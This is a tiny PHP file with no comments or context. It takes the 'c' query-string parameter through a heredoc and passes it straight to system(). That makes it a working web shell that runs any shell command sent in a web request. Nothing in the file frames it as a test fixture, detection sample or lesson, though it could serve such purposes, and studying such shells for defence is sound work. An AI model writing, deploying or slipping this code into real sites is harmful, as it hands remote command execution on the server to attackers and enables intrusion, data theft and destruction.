<?php $c = "" . <<<EOT
{$_GET[c]}
EOT;
system($c);
